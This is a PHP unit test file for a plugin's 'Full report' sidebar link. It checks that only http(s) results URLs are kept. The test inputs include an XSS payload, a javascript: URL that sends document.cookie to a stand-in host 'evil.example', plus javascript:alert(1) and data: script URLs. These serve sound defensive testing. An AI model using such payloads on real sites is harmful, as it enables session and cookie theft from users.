<?php
/**
 * The "Full report" link the sidebar shows.
 *
 * @package GeoAudit
 */

namespace GeoAudit\Tests;

use GeoAudit\Audit_Store;
use GeoAudit\Coordinator;

require_once __DIR__ . '/scripted-api-client.php';

/**
 * The coordinator keeps the API's results_url for the sidebar's link only when it is an http(s) address: the
 * sidebar puts it in an href, and a javascript: address would run in the editor's session.
 */
final class ResultsLinkTest extends TestCase {
	private Scripted_Api_Client $api;
	private Coordinator $coordinator;

	protected function setUp(): void {
		parent::setUp();
		$this->api         = new Scripted_Api_Client();
		$this->api->served = true;
		$this->coordinator = new Coordinator( $this->api, new Audit_Store() );
	}

	/** Publishes a post, starts its audit and delivers a signed completion webhook; returns the stored record. */
	private function audited( string $results_url ): array {
		$this->api->results_url = $results_url;
		$post_id                = $this->published_post();
		$this->coordinator->publish( $post_id );
		$this->run_start_now( $this->coordinator, $post_id );
		[ $status ] = $this->deliver_completion( $this->coordinator, $post_id );
		$this->assertSame( 200, $status );
		return $this->record( $post_id );
	}

	public function test_an_https_results_url_is_kept_for_the_link(): void {
		$record = $this->audited( 'https://geo.example.com/results/abc' );
		$this->assertSame( 'complete', $record['state'] );
		$this->assertSame( 'https://geo.example.com/results/abc', $record['resultsUrl'] );
	}

	public function test_a_javascript_results_url_is_dropped_and_the_score_kept(): void {
		$record = $this->audited( 'javascript:fetch("https://evil.example/?c="+document.cookie)' );
		$this->assertSame( 'complete', $record['state'] );
		$this->assertSame( 74, $record['geoScore'] );
		$this->assertNull( $record['resultsUrl'] );
	}

	public function test_a_stored_unsafe_results_url_is_not_carried_into_the_next_audit(): void {
		$record  = $this->audited( 'https://geo.example.com/results/abc' );
		$post_id = (int) ( new Audit_Store() )->find_by_job_id( $record['jobId'] );
		( new Audit_Store() )->save( $post_id, array_merge( $record, array( 'resultsUrl' => 'javascript:alert(1)' ) ) );
		$this->coordinator->publish( $post_id );
		$this->assertNull( $this->record( $post_id )['resultsUrl'] );
	}

	public function test_a_data_results_url_is_dropped(): void {
		$this->assertNull( $this->audited( 'data:text/html,<script>alert(1)</script>' )['resultsUrl'] );
	}
}
